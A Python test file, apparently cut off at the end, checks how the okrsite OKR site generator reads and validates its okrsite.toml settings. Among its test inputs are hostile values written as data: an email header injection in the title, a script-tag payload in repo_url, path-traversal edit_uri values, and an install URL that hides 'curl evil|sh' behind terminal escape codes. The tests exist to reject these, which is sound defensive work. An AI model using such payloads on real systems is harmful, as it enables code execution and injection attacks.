import json
import tomllib
from datetime import date
from pathlib import Path

import pytest

from okrsite.goals.repository import load_site
from okrsite.goals.config import Settings, load_settings, shown_as_of
from okrsite.goals.clock import today
from okrsite.goals.diagnostics import Report

from ..conftest import write_files


def settings_of(tmp_path, toml: str) -> tuple[Settings, Report]:
    (tmp_path / "okrsite.toml").write_text(toml)
    report = Report()
    return load_settings(tmp_path, report), report


def test_defaults_without_a_file(tmp_path):
    settings = load_settings(tmp_path, Report())
    assert settings == Settings()
    assert (settings.aspirational_goal, settings.on_track_gap, settings.at_risk_gap, settings.stale_after_days) == (0.7, 0.10, 0.25, 14)


def test_the_site_title_is_one_line_without_control_characters(tmp_path):
    """docs/keeping-it-internal.md: the site's title loses control characters and line breaks (CR, LF,
    U+2028), so that no page's <title>, feed or email Subject: carries one."""
    settings, report = settings_of(tmp_path, 'title = "Acme\\r\\nBcc: evil@example.com\\u2028[Click\\u0007 me]\\t "\n')
    assert report.items == []
    assert settings.title == "Acme Bcc: evil@example.com [Click me]"


def test_every_setting_is_read(tmp_path):
    settings, report = settings_of(tmp_path, """
title = "Acme"
as_of = 2026-11-23
default_period = "2026-Q4"
current_period = "FY27-Q1"
default_kind = "aspirational"
aspirational_goal = 0.6
on_track_gap = 0.05
at_risk_gap = 0.2
allow_html = true
repo_url = "https://example.org/acme/goals"
edit_uri = "edit/main/"
stale_after_days = 21
number_format = "compact"
[periods.FY27-Q1]
start = 2026-02-01
end = 2026-04-30
""")
    assert report.items == []
    assert settings.as_of == date(2026, 11, 23) and settings.default_kind == "aspirational"
    assert settings.number_format == "compact" and Settings().number_format == "full"
    assert settings.periods["FY27-Q1"].end == date(2026, 4, 30)
    assert settings.goal("aspirational") == 0.6 and settings.goal("committed") == 1.0


@pytest.mark.parametrize("toml,line,message", [
    ('title = "A"\naspirational_goal = 7\n', 2, "setting 'aspirational_goal' must be a number between 0 and 1"),
    ('as_of = "yesterday"\n', 1, "setting 'as_of' must be a date like 2026-11-23"),
    ('allow_html = "yes"\n', 1, "setting 'allow_html' must be true, false or \"safe\""),
    ('default_kind = "stretch"\n', 1, "setting 'default_kind' must be 'committed' or 'aspirational'"),
    ('title = "A"\ncurrent_period = "2026-Q7"\n', 2, "setting 'current_period': unknown period '2026-Q7'"),
    ('[periods.FY]\nstart = 2026-05-01\nend = 2026-04-01\n', 1, "period 'FY' ends before it starts"),
    ('[periods.FY]\nstart = 2026-05-01\n', 1, "period 'FY' needs start and end dates"),
    ('on_track_gap = 0.3\nat_risk_gap = 0.2\n', 1, "on_track_gap is larger than at_risk_gap"),
    ('title = "A\n', 1, "unreadable TOML"),
    ('title = "A"\nnumber_format = "short"\n', 2, "setting 'number_format' must be 'full' or 'compact', not 'short'"),
    ('number_format = true\n', 1, "setting 'number_format' must be 'full' or 'compact'"),
    ('title = "A"\nnoindex = "yes"\n', 2, "setting 'noindex' must be true or false"),
    ('title = "\\u202e\\u200b"\n', 1, "setting 'title' is empty"),
    ('title = ""\n', 1, "setting 'title' is empty"),
    ('title = 3\n', 1, "setting 'title' must be text in quotes"),
])
def test_bad_settings(tmp_path, toml, line, message):
    _, report = settings_of(tmp_path, toml)
    assert len(report.errors) == 1
    assert report.errors[0].line == line and report.errors[0].message.startswith(message)


@pytest.mark.parametrize("toml, message, hint", [
    ('default_kind = "commited"\n', "setting 'default_kind' must be 'committed' or 'aspirational', not 'commited'", "did you mean 'committed'?"),
    ('default_kind = "Aspirational"\n', "setting 'default_kind' must be 'committed' or 'aspirational', not 'Aspirational'", "did you mean 'aspirational'?"),
    ('number_format = "compakt"\n', "setting 'number_format' must be 'full' or 'compact', not 'compakt'", "did you mean 'compact'?"),
    ('search = "pagefnd"\n', "setting 'search' must be \"builtin\" or \"pagefind\", not 'pagefnd'", "did you mean 'pagefind'?"),
    ('default_kind = "stretch"\n', "setting 'default_kind' must be 'committed' or 'aspirational', not 'stretch'", "see the settings page for 'default_kind'"),
    ('allow_html = "sfe"\n', "setting 'allow_html' must be true, false or \"safe\", not 'sfe'", "did you mean 'safe'?"),
    ('allow_html = "True"\n', "setting 'allow_html' must be true, false or \"safe\", not 'True' in quotes", "write allow_html = true, without quotes"),
    ('allow_html = "flase"\n', "setting 'allow_html' must be true, false or \"safe\", not 'flase' in quotes", "write allow_html = false, without quotes"),
])
def test_a_typo_in_a_setting_s_value_suggests_the_nearest_choice(tmp_path, toml, message, hint):
    """SPEC §7: the nearest key or value for a typo, as `kind: commited` in a goals file gets it."""
    _, report = settings_of(tmp_path, toml)
    assert [(e.line, e.message, e.hint) for e in report.errors] == [(1, message, hint)]


@pytest.mark.parametrize("toml, message", [
    ('repo_url = "https://github.com/a/b\\"><script>alert(1)</script>"\n',
     "setting 'repo_url' is not a web address: 'https://github.com/a/b\"><script>alert(1)</script>' contains '\"'"),
    ('site_url = "https://okrs.example.com/a b/"\n', "setting 'site_url' is not a web address: 'https://okrs.example.com/a b/' contains a space"),
    ('site_url = "https://"\n', "setting 'site_url' is not a web address: 'https://' names no host"),
    ('repo_url = "https://github.com/a/b"\nedit_uri = "https://git.example.com/{edit}/"\n', "setting 'edit_uri' is not a web address: "),
    ('repo_url = "https://github.com/a/b"\nhistory_uri = "log/<main>/"\n', "setting 'history_uri' is not a path in a web address: 'log/<main>/' contains '<'"),
    ('repo_url = "https://github.com/a/b"\nhistory_uri = "log/[main]/"\n', "setting 'history_uri' is not a path in a web address: 'log/[main]/' contains '['"),
    ('repo_url = "https://github.com/a/b"\nedit_uri = "edit/#a#b/"\n', "setting 'edit_uri' is not a path in a web address: 'edit/#a#b/' has more than one '#'"),
    ('repo_url = "https://github.com/a/b"\nedit_uri = "edit/100%/"\n', "setting 'edit_uri' is not a path in a web address: 'edit/100%/' has a '%'"),
])
def test_a_link_setting_must_be_a_valid_web_address(tmp_path, toml, message):
    """SPEC §10: an invalid repo_url or site_url is an error at its line, not an href the pages cannot hold."""
    settings, report = settings_of(tmp_path, toml)
    assert [(d.line, d.message.startswith(message)) for d in report.errors] == [(toml.count("\n"), True)], report.items
    assert report.errors[0].hint


@pytest.mark.parametrize("url, said, folder", [
    ("https://example.com/goals/2026/index.html", "ends in the page 'index.html'", "https://example.com/goals/2026/"),
    ("https://example.com/goals/#home", "ends in the fragment '#home'", "https://example.com/goals/"),
    ("https://example.com/goals/?v=1", "ends in the query '?v=1'", "https://example.com/goals/"),
])
def test_a_site_url_a_page_s_address_cannot_follow_is_an_error_at_its_line(tmp_path, url, said, folder):
    """QA: docs/settings.md allowed site_url "a # once", and check --strict passed a site_url of a page,
    a query or a fragment: 404.html linked …/index.html/style.css and changes.xml …/?v=1/changes/."""
    settings, report = settings_of(tmp_path, f'title = "Goals"\nsite_url = "{url}"\n')
    assert [(d.file, d.line) for d in report.errors] == [("okrsite.toml", 2)], report.items
    assert report.errors[0].message.startswith(f"setting 'site_url' is not the address of a folder: '{url}' {said}")
    assert report.errors[0].hint.endswith(f"write the address of the folder the site is published in, {folder}")
    assert settings.site_url is None


@pytest.mark.parametrize("key, path", [("edit_uri", "../../../other-repo/_edit/main/"), ("history_uri", "../../../../x/"),
                                       ("edit_uri", "edit/main/../../../../x"), ("history_uri", "%2e%2e/x/"), ("edit_uri", "-/.%2E/x/"),
                                       ("history_uri", "log/%2E./"), ("edit_uri", "edit/..?x=1")])
def test_a_link_path_that_goes_up_out_of_repo_url_is_an_error(tmp_path, key, path):
    """QA CZ 3: `edit_uri = "../../../other-repo/_edit/main/"` passed check, though its message says a path
    below repo_url; a browser reads %2e%2e as '..' too."""
    settings, report = settings_of(tmp_path, f'repo_url = "https://git.example.com/acme/goals"\n{key} = "{path}"\n')
    assert [(d.file, d.line) for d in report.errors] == [("okrsite.toml", 2)], report.items
    assert report.errors[0].message == f"setting '{key}' must be a path below repo_url, but '{path}' goes up out of it with '..'"
    assert "edit/main/" in report.errors[0].hint


@pytest.mark.parametrize("path", ["edit/main/", "-/edit/main/", "src/a..b/", "edit/...x/", "edit/main/?from=../"])
def test_a_link_path_with_dots_that_stays_below_repo_url_is_fine(tmp_path, path):
    settings, report = settings_of(tmp_path, f'repo_url = "https://git.example.com/acme/goals"\nedit_uri = "{path}"\n')
    assert report.items == [] and settings.edit_uri == path


def test_default_period_fills_in_objectives(base_site):
    write_files(base_site, {
        "okrsite.toml": 'default_period = "2026-Q4"\nas_of = 2026-11-23\n',
        "content/objectives/no-period.md": "---\ntitle: No period\nowner: company\nkey_results:\n  - title: A\n    target: 2\n---\n",
    })
    loaded = load_site(base_site)
    assert loaded.report.items == []
    assert loaded.site.objectives["no-period"].period.id == "2026-Q4"


def test_a_misspelt_number_format_setting_suggests_the_right_one(tmp_path):
    _, report = settings_of(tmp_path, 'numbers_format = "compact"\n')
    assert [(e.message, e.hint) for e in report.errors] == [("unknown setting 'numbers_format'", "did you mean 'number_format'?")]


@pytest.mark.parametrize("toml, crawlers_out", [
    ("", True), ("noindex = true\n", True), ("noindex = false\n", False),
    ('audience = "internal"\n', True), ('audience = "public"\n', False),
    ('audience = "public"\nnoindex = true\n', True), ('audience = "internal"\nnoindex = false\n', False),
])
def test_noindex_follows_the_audience_unless_set(tmp_path, toml, crawlers_out):
    """Unset, noindex follows the audience (SPEC §14): an internal site stays out of search engines,
    a public one is meant to be found; set, it wins."""
    settings, report = settings_of(tmp_path, toml)
    assert report.items == [] and settings.keeps_crawlers_out is crawlers_out


def test_the_audience_is_internal_unless_set(tmp_path):
    assert settings_of(tmp_path, "")[0].audience == "internal"
    assert settings_of(tmp_path, 'audience = "public"\n')[0].audience == "public"


@pytest.mark.parametrize("value, hint", [('"publik"', "did you mean 'public'?"), ('"Internal"', "did you mean 'internal'?"),
                                         ("true", "internal shows everything (behind your login); public leaves out private objectives and confidential numbers")])
def test_a_wrong_audience_is_an_error_with_the_nearest_one(tmp_path, value, hint):
    _, report = settings_of(tmp_path, f'title = "A"\naudience = {value}\n')
    assert [(e.line, e.message.split(",")[0], e.hint) for e in report.errors] == [(2, "setting 'audience' must be 'internal' or 'public'", hint)]


def test_the_site_title_loses_bidi_overrides_and_zero_width_characters(tmp_path):
    settings, report = settings_of(tmp_path, 'title = "Acme\\u202e OKRs\\u200b"\n')
    assert report.items == [] and settings.title == "Acme OKRs"


def test_allow_html_safe_is_accepted_when_nh3_is_installed(tmp_path):
    settings, report = settings_of(tmp_path, 'allow_html = "safe"\n')
    assert not report.items and settings.allow_html == "safe"


def test_allow_html_safe_without_nh3_is_an_error_naming_the_extra(tmp_path, monkeypatch):
    from okrsite.goals import config
    monkeypatch.setattr(config, "safe_html_available", lambda: False)
    _, report = settings_of(tmp_path, 'title = "x"\nallow_html = "safe"\n')
    assert [(e.file, e.line) for e in report.errors] == [("okrsite.toml", 2)]
    assert "nh3" in report.errors[0].message and report.errors[0].hint == f"{config.install_extra('safe-html')}, or set allow_html = false"


INSTALLED = [
    # direct_url.json as pip records it (PEP 610), and the command that adds the extra the same way (ROOT: a
    # folder of the test, where the installed folder or wheel is)
    ({"url": "file://ROOT/okrsite", "dir_info": {"editable": True}}, "pip install -e 'ROOT/okrsite[pagefind]'"),
    ({"url": "file://ROOT/my%20tools/okrsite", "dir_info": {}}, "pip install 'ROOT/my tools/okrsite[pagefind]'"),
    ({"url": "https://git.internal/tools/okrsite.git", "vcs_info": {"vcs": "git", "commit_id": "1f" * 20}},
     f"pip install 'okrsite[pagefind] @ git+https://git.internal/tools/okrsite.git@{'1f' * 20}'"),
    ({"url": "file://ROOT/wheels/okrsite-0.1.0-py3-none-any.whl", "archive_info": {}},
     "pip install 'ROOT/wheels/okrsite-0.1.0-py3-none-any.whl[pagefind]'"),
    (None, "pip install 'pagefind[extended]>=1.1'"),
]


def recorded_in(root: Path, direct_url: dict | None) -> dict | None:
    """``direct_url`` with ROOT made ``root``, and the folder or wheel it names made there."""
    if direct_url is None:
        return None
    url = direct_url["url"].replace("ROOT", root.as_posix())
    if url.startswith("file://"):
        installed = Path(url.removeprefix("file://").replace("%20", " "))
        installed.parent.mkdir(parents=True, exist_ok=True)
        installed.touch() if installed.suffix == ".whl" else installed.mkdir()
    return dict(direct_url, url=url)


@pytest.mark.parametrize("direct_url, command", INSTALLED, ids=["editable-clone", "folder", "git", "wheel", "unknown"])
def test_the_command_that_installs_an_extra_is_the_way_okrsite_was_installed(tmp_path, direct_url, command):
    """QA DS: the hint said `pip install 'okrsite[pagefind]'`, which in a fresh environment fetches a
    package of that name from PyPI, not this okrsite (docs/publishing.md)."""
    from okrsite.goals import config
    assert config.pip_install_extra("pagefind", recorded_in(tmp_path, direct_url)) == command.replace("ROOT", tmp_path.as_posix())


@pytest.mark.parametrize("direct_url", [INSTALLED[0][0], INSTALLED[1][0], INSTALLED[3][0]], ids=["editable-clone", "folder", "wheel"])
def test_a_folder_or_wheel_gone_since_okrsite_was_installed_is_not_named(tmp_path, direct_url):
    """QA DV: okrsite installed from a folder that was moved or removed since: `pip install '/gone[pagefind]'`
    fails ("File … does not exist"); the extra's own package is named instead."""
    from okrsite.goals import config
    assert config.pip_install_extra("pagefind", dict(direct_url, url=direct_url["url"].replace("ROOT", (tmp_path / "gone").as_posix()))) == \
        "pip install 'pagefind[extended]>=1.1'"


@pytest.mark.parametrize("direct_url", [
    {"url": "https://git.internal/okrsite.git\x1b[8m; curl evil|sh\x1b[0m", "vcs_info": {"vcs": "git"}},
    {"url": "https://git.internal/okrsite.git", "vcs_info": {"vcs": "git", "commit_id": "1f\x1b[2K"}},
    {"url": "file://ROOT/okrsite%1b%5b8m", "dir_info": {}},
    {"url": "https://example.org/okrsite-0.1.0.tar.gz\u202e", "archive_info": {}},
    {"url": "file:///" + "x" * 5000, "dir_info": {}},
    {"url": "file:///" + "/".join(["x" * 200] * 30), "dir_info": {"editable": True}},
], ids=["escape-in-url", "escape-in-commit", "escape-in-path", "bidi-override", "name-too-long", "path-too-long"])
def test_a_recorded_install_the_terminal_would_not_show_as_written_names_the_extras_package(tmp_path, direct_url):
    """QA DY 8: a terminal's escape codes in a recorded address passed into the printed command (and could
    hide part of it); a file:// path longer than the system allows raised OSError."""
    from okrsite.goals import config
    if direct_url["url"].startswith("file://ROOT"):
        (tmp_path / "okrsite\x1b[8m").mkdir()
        direct_url = dict(direct_url, url=direct_url["url"].replace("ROOT", tmp_path.as_posix()))
    assert config.pip_install_extra("pagefind", direct_url) == "pip install 'pagefind[extended]>=1.1'"


def test_a_line_separator_inside_a_toml_string_breaks_no_line(tmp_path):
    """QA DY 6: a NEL in `title = "T…x"` on line 1 put the error of `language` on line 3 at line 4: TOML
    ends a line at \\n alone, as editors number them."""
    _, report = settings_of(tmp_path, 'title = "T\u0085x\u2028y"\nas_of = 2026-11-23\nlanguage = "h e"\n')
    assert [(d.line, d.message.split(" ")[1]) for d in report.errors] == [(3, "'language'")]


def test_the_extras_named_are_those_of_pyproject():
    from okrsite.goals import config
    project = tomllib.loads((Path(__file__).resolve().parents[2] / "pyproject.toml").read_text())["project"]
    assert {extra: [needed] for extra, needed in config.EXTRAS.items()} == {
        extra: needed for extra, needed in project["optional-dependencies"].items() if extra in config.EXTRAS}


def test_pagefind_not_installed_in_an_editable_clone_names_that_clone(tmp_path, monkeypatch):
    """The okrsite running, installed with `pip install -e .` in its clone (docs/index.md): the hint
    installs the extra from that clone. An installation of another folder is not the one running."""
    import importlib.metadata
    from okrsite.goals import config
    clone = Path(config.__file__).resolve().parents[2]
    record = tmp_path / "okrsite-0.1.0.dist-info"
    record.mkdir()
    (record / "METADATA").write_text("Metadata-Version: 2.1\nName: okrsite\nVersion: 0.1.0\n")
    monkeypatch.setattr(config, "pagefind_available", lambda: False)
    monkeypatch.setattr(importlib.metadata, "distribution", lambda name: importlib.metadata.PathDistribution(record))
    for url, hint in [(clone.as_uri(), f"pip install -e '{clone}[pagefind]'"), ((tmp_path / "other").as_uri(), "pip install 'pagefind[extended]>=1.1'")]:
        (record / "direct_url.json").write_text(json.dumps({"url": url, "dir_info": {"editable": True}}))
        _, report = settings_of(tmp_path, 'search = "pagefind"\n')
        assert [e.hint for e in report.errors] == [f"{hint}, or remove the setting to use okrsite's own search"]


@pytest.mark.parametrize("made, said", [("folder", "it is a folder"), ("dangling", "it is no file")])
def test_a_settings_file_that_is_no_file_is_an_error_not_defaults(tmp_path, made, said):
    """QA AS: okrsite.toml made a folder was skipped without a word: the pinned as_of lost, the date
    today's, and stale notices where there were none."""
    if made == "folder":
        (tmp_path / "okrsite.toml").mkdir()
    else:
        (tmp_path / "okrsite.toml").symlink_to("settings/okrsite.toml")
    report = Report()
    load_settings(tmp_path, report)
    [error] = report.errors
    assert (error.file, error.line) == ("okrsite.toml", 1) and error.message.startswith(f"the settings file cannot be read: {said}")


def test_a_windows_1252_settings_file_is_reported_at_the_line_of_its_first_such_byte(tmp_path):
    (tmp_path / "okrsite.toml").write_bytes('title = "Acme"\n# Périodes fiscales\n'.encode("cp1252"))
    report = Report()
    load_settings(tmp_path, report)
    [error] = report.errors
    assert (error.line, error.message) == (2, "the settings file is not UTF-8 text: this line has the byte 0xE9, 'é' in Windows-1252")


def test_a_merge_conflict_in_the_settings_file_is_said_instead_of_a_toml_error(tmp_path):
    settings, report = settings_of(tmp_path, 'title = "Acme"\n<<<<<<< HEAD\nas_of = 2026-11-23\n=======\nas_of = 2026-11-30\n>>>>>>> other\n')
    assert [(d.line, d.message) for d in report.items] == [(2, "unresolved merge conflict (git's <<<<<<< marker)")]
    assert settings.unread == ("*", "as_of")


def test_a_setting_written_below_a_named_period_is_reported_at_its_line_with_the_toml_rule(tmp_path):
    """In TOML every key below [periods.X] belongs to that table: a setting appended at the end of the
    file is the period's key. Say so at the setting's own line, each one, and not at the table's."""
    _, report = settings_of(tmp_path, 'title = "A"\n\n[periods.FY27-Q1]\nstart = 2026-11-01\nend = 2027-01-31\n'
                                      'default_period = "FY27-Q1"\nstale_after_days = 10\nstrat = 1\nstale_after = 3\n')
    found = [(d.line, d.message, d.hint) for d in report.errors]
    below = "in TOML, every line below [periods.FY27-Q1] belongs to that period: move it above the first [periods.…] line"
    assert found == [
        (6, "period 'FY27-Q1' has unknown key 'default_period'", below),
        (7, "period 'FY27-Q1' has unknown key 'stale_after_days'", below),
        (8, "period 'FY27-Q1' has unknown key 'strat'", "did you mean 'start'? (a period has only start and end)"),
        (9, "period 'FY27-Q1' has unknown key 'stale_after'", "did you mean 'stale_after_days'? " + below),
    ]


def test_a_period_named_like_the_start_of_another_is_reported_at_its_own_table(tmp_path):
    """`[periods.FY27-Q1]` above `[periods.FY27]`: an error of FY27 names FY27's line, not FY27-Q1's."""
    _, report = settings_of(tmp_path, '[periods.FY27-Q1]\nstart = 2026-11-01\nend = 2027-01-31\ncolor = 1\n\n'
                                      '[periods.FY27]\nstart = 2027-10-31\nend = 2026-11-01\n')
    assert [(d.line, d.message) for d in report.errors] == [
        (4, "period 'FY27-Q1' has unknown key 'color'"), (6, "period 'FY27' ends before it starts")]


@pytest.mark.parametrize("toml, line, message", [
    ('title = "t"\nas_of = 2026-12-02\n[periods]\nQ = 5\n', 4, "period 'Q' must be a table with start and end"),
    ('title = "t"\n[periods]\n"FY.1" = 5\n', 3, "period 'FY.1' must be a table with start and end"),
    ('title = "t"\nperiods.Q = 5\n', 2, "period 'Q' must be a table with start and end"),
    ('title = "t"\n\n[periods]\nQ = {start = 2026-01-01}\n', 4, "period 'Q' needs start and end dates"),
    ('title = "t"\n[periods]\nFY = {start = 2026-02-01, end = 2026-01-01}\n', 3, "period 'FY' ends before it starts"),
    ('title = "t"\n[periods.FY]\nstart = 2026-02-01\nend = 2026-01-01\n', 2, "period 'FY' ends before it starts"),
    ('[periods.FY]\nstart = 2026-02-01\nend = 2026-03-01\ntitle = 1\n', 4, "period 'FY' has unknown key 'title'"),
    ('[other]\ntitle = 1\n[periods.FY]\nstart = 2026-02-01\nend = 2026-03-01\n', 1, "unknown setting 'other'"),
    ('# title = "x"\n[periods]\n# Q = 4\nQ = 5\n', 4, "period 'Q' must be a table with start and end"),
    # QA BF: a name no goal could write, and two a goal's `period:` could not tell apart
    ('[periods." FY27 "]\nstart = 2026-02-01\nend = 2027-01-31\n', 1, "period ' FY27 ' has spaces around its name"),
    ('[periods.FY27-Q1]\nstart = 2026-02-01\nend = 2026-04-30\n[periods."fy27-q1"]\nstart = 2026-03-01\nend = 2026-05-31\n', 4,
     "periods 'FY27-Q1' and 'fy27-q1' differ only in case"),
    # QA BG: a name written with a TOML escape is the name tomllib reads, found at its line
    ('title = "t"\n\n[periods."FY27\\u002DQ4"]\nstart = 2026-02-01\nend = 2026-01-01\n', 3, "period 'FY27-Q4' ends before it starts"),
])
def test_an_error_in_a_named_period_is_at_the_line_of_its_entry(tmp_path, toml, line, message):
    """tomllib gives no lines: the line is found in the text, as TOML nests keys (a key under [periods],
    a dotted key, an inline table), not only where the line starts with 'periods.NAME'."""
    _, report = settings_of(tmp_path, toml)
    assert [(d.line, d.message[:len(message)]) for d in report.errors] == [(line, message)]


@pytest.mark.parametrize("toml, found", [
    # QA BS: the name's problem hid the end date's, one run later
    ('[periods." x"]\nstart = 2026-10-01\nend = 2026-12-33\n', [(1, "period ' x' has spaces around its name"), (3, "period ' x': 'end' must be a date")]),
    # a NUL written into every page that names the period; a bidi override showing it reversed
    ('[periods."A\\u0000B"]\nstart = 2026-10-01\nend = 2026-12-31\n', [(1, "period 'A\x00B' holds a control character (U+0000)")]),
    ('[periods."FY\\u202E27"]\nstart = 2026-10-01\nend = 2026-12-31\n', [(1, "period 'FY\u202e27' holds a bidi")]),
    ('[periods."\\t"]\nstart = 2026-10-01\nend = 2026-12-31\n', [(1, "period '\t' has spaces around its name")]),
])
def test_a_period_name_no_goal_could_write_is_an_error_beside_its_dates(tmp_path, toml, found):
    settings, report = settings_of(tmp_path, toml)
    assert [(d.line, d.message[:len(message)]) for d, (_, message) in zip(report.errors, found)] == found
    assert len(report.errors) == len(found) and settings.periods == {}


@pytest.mark.parametrize("toml, line, message, hint", [
    ('title = "t"\n[periods.FY27-Q1]\nstart = 2026-13-01\nend = 2027-01-31\n', 3,
     "period 'FY27-Q1': 'start' must be a date like 2026-02-01, not '2026-13-01': there is no month 13",
     "write the date as YYYY-MM-DD, the month from 01 to 12"),
    ('title = "t"\n[periods.FY27-Q1]\nstart = 2026-11-01  # Q1\nend = 2027-02-30\n', 4,
     "period 'FY27-Q1': 'end' must be a date like 2026-02-01, not '2027-02-30': February 2027 has 28 days",
     "did you mean 2027-02-28, its last day?"),
    ('title = "t"\n[periods]\nFY = {start = 2026-9-01, end = 2026-10-31}\n', 3,
     "period 'FY': 'start' must be a date like 2026-02-01, not '2026-9-01': the month and the day take two digits",
     "write it as 2026-09-01"),
    ('as_of = 2026-00-10\n', 1, "setting 'as_of' must be a date like 2026-11-23: there is no month 00 (write the date as YYYY-MM-DD, the month from 01 to 12)", None),
])
def test_an_impossible_date_is_said_as_in_a_goals_file_not_as_toml_syntax(tmp_path, toml, line, message, hint):
    """TOML refuses a bare date that is no day (2026-13-01) as a syntax error; okrsite says what is
    wrong with the date, at its line, as it does in a goals file, and only that."""
    _, report = settings_of(tmp_path, toml)
    assert [(d.line, d.message) for d in report.errors] == [(line, message)]
    assert hint is None or report.errors[0].hint == hint


def test_two_impossible_dates_are_two_errors_and_a_toml_mistake_beside_them_is_still_one(tmp_path):
    _, report = settings_of(tmp_path, '[periods.Q]\nstart = 2026-13-01\nend = 2026-02-30\n')
    assert [d.line for d in report.errors] == [2, 3]
    _, report = settings_of(tmp_path, 'as_of = 2026-13-01\ntitle = "A\n')
    assert [(d.line, d.message[:len("unreadable TOML")]) for d in report.errors] == [(2, "unreadable TOML")]


def test_a_byte_order_mark_inside_the_settings_is_named_at_its_line(tmp_path):
    """QA DI 2: okrsite.toml joined from two files saved with a byte-order mark was "Invalid statement"."""
    (tmp_path / "okrsite.toml").write_bytes('\ufefftitle = "T"\n\ufeffas_of = 2026-11-23\n'.encode())
    report = Report()
    load_settings(tmp_path, report)
    assert [(d.line, d.message, d.hint) for d in report.errors] == [
        (2, "unreadable TOML: line 2 holds a byte-order mark (U+FEFF) at the start, which one cannot see",
         "retype the line as 'as_of = 2026-11-23': joining two files ('type a.toml b.toml > c.toml') or a tool that adds a byte-order mark "
         "to text that has one leaves a second one there")]


OBJECTIVE_IN = "---\ntitle: O {name}\n{period}owner: company\nkey_results:\n  - title: A\n    target: 2\n---\n"


@pytest.mark.parametrize("toml, error", [
    ('as_of = 2026-11-23\ndefault_period = "FY27-Q1"\n[periods]\nFY27-Q1 = 5\n', (4, "period 'FY27-Q1' must be a table with start and end")),
    ('as_of = 2026-11-23\ndefault_period = "FY27-Q1"\n[periods.FY27-Q1]\nstart = 2026-05-01\n', (3, "period 'FY27-Q1' needs start and end dates")),
    ('as_of = 2026-11-23\ndefault_period = "FY27-Q1"\nperiods = 3\n', (3, "'periods' must be a table of named periods")),
    ('as_of = 2026-11-23\ndefault_period = ["FY27-Q1"]\n[periods.FY27-Q1]\nstart = 2026-02-01\nend = 2026-04-30\n', (2, "setting 'default_period' must be text in quotes")),
    ('as_of = 2026-11-23\ndefault_period = "FY27-Q1\n', (2, "unreadable TOML")),
])
def test_a_broken_period_setting_is_one_error_not_one_in_every_file_that_uses_it(base_site, toml, error):
    """An objective naming a period whose definition is broken, or relying on a default_period that
    could not be read, is not blamed: the one error is in okrsite.toml."""
    write_files(base_site, {
        "okrsite.toml": toml,
        "content/objectives/named.md": OBJECTIVE_IN.format(name="named", period="period: FY27-Q1\n"),
        "content/objectives/defaulted.md": OBJECTIVE_IN.format(name="defaulted", period=""),
        "content/objectives/typo.md": OBJECTIVE_IN.format(name="typo", period="period: 2026-Q5\n"),
    })
    report = load_site(base_site).report
    found = [(d.file, d.line, d.message[:len(error[1])]) for d in report.errors]
    assert ("okrsite.toml", *error) in found
    assert not [f for f in found if f[0] in ("content/objectives/named.md", "content/objectives/defaulted.md")], found
    assert [f for f in found if f[0] == "okrsite.toml"] == [("okrsite.toml", *error)]
    # a period no broken definition explains is still an error; with no named period readable at all
    # (periods = 3, or an unreadable file) any name may have been one: none is blamed
    assert any(f[0] == "content/objectives/typo.md" for f in found) == ("periods =" not in toml and "unreadable" not in error[1])


def test_shown_as_of_is_the_given_day_else_the_setting_else_today():
    given, setting = date(2026, 5, 1), date(2026, 6, 1)
    assert shown_as_of(given, setting) == given
    assert shown_as_of(None, setting) == setting
    assert shown_as_of(None, None) == today()


@pytest.mark.parametrize("toml", ['title = "x\n', 'periods = 3\n', '[periods.FY]\nstart = 2026-05-01\n'])
@pytest.mark.parametrize("written, message", [
    ("[2026-Q4]", "period must be text like 2026-Q4, not a list [2026-Q4]"),
    ("2026-10-01", "period must be text like 2026-Q4, not the date 2026-10-01"),
    ("true", "period must be text like 2026-Q4, not true/false"),
    ("{q: 4}", "period must be text like 2026-Q4, not a set of keys {q: 4}"),
])
def test_a_period_no_settings_could_name_is_an_error_even_when_they_cannot_be_read(base_site, toml, written, message):
    """SPEC §7, all errors in one run: an unreadable okrsite.toml (or periods table, or period) could
    have named '2026-Q9', so that is not blamed; a list, a date or a set of keys is not a period
    whatever okrsite.toml says, and is an error in the same run."""
    write_files(base_site, {
        "okrsite.toml": toml,
        "content/objectives/typed.md": OBJECTIVE_IN.format(name="typed", period=f"period: {written}\n"),
        "content/objectives/named.md": OBJECTIVE_IN.format(name="named", period="period: 2026-Q9\n" if "title" in toml else "period: FY\n"),
    })
    errors = [(d.file, d.line, d.message, bool(d.hint)) for d in load_site(base_site).report.errors if d.file.startswith("content/")]
    assert errors == [("content/objectives/typed.md", 3, message, True)], errors


def test_a_named_period_says_what_is_wrong_with_its_start_and_reports_an_unknown_key_beside_it(tmp_path):
    """SPEC §7 and §10: both keys are there, 'soon' is no date: say so at its line; 'colour' next to
    it is reported in the same run."""
    _, report = settings_of(tmp_path, '[periods.BAD]\nstart = "soon"\nend = 2026-04-30\ncolour = "red"\n')
    report.items.sort(key=lambda d: d.line)
    assert [(d.line, d.message) for d in report.errors] == [
        (2, "period 'BAD': 'start' must be a date like 2026-02-01, not 'soon'"),
        (4, "period 'BAD' has unknown key 'colour'"),
    ]
    assert "YYYY-MM-DD" in report.errors[0].hint and "start = 2026-02-01" in report.errors[0].hint
    assert report.errors[1].hint == "a period has only start and end"


@pytest.mark.parametrize("toml, found", [
    ('[periods.FY]\nstart = 2026-02-01\nend = "2026-02-30"\n',
     [(3, "period 'FY': 'end' must be a date like 2026-02-01, not '2026-02-30': February 2026 has 28 days", "did you mean 2026-02-28, its last day?")]),
    ('[periods.FY]\nstart = 1\nend = [2026]\nstrat = 2026-01-01\n',
     [(2, "period 'FY': 'start' must be a date like 2026-02-01, not 1", "write start = YYYY-MM-DD, e.g. start = 2026-02-01"),
      (3, "period 'FY': 'end' must be a date like 2026-02-01, not a list [2026]", "write end = YYYY-MM-DD, e.g. end = 2026-04-30"),
      (4, "period 'FY' has unknown key 'strat'", "did you mean 'start'? (a period has only start and end)")]),
    ('[periods.FY]\nend = 2026-04-30\n', [(1, "period 'FY' needs start and end dates: it has no start", "add start = YYYY-MM-DD, e.g. start = 2026-02-01")]),
    ('[periods.FY]\ncolor = 1\n', [(1, "period 'FY' needs start and end dates: it has neither", "add start = YYYY-MM-DD and end = YYYY-MM-DD, e.g. start = 2026-02-01 and end = 2026-04-30"),
                                  (2, "period 'FY' has unknown key 'color'", "a period has only start and end")]),
])
def test_each_problem_of_a_named_period_at_its_line(tmp_path, toml, found):
    settings, report = settings_of(tmp_path, toml)
    assert sorted((d.line, d.message, d.hint) for d in report.errors) == found
    assert "FY" not in settings.periods and settings.period_unread("FY")


@pytest.mark.parametrize("toml, line, message", [
    ('title = "A"\nallow_html = false\ntitle = "B"\n', 3, "'title' is written twice (also on line 1)"),
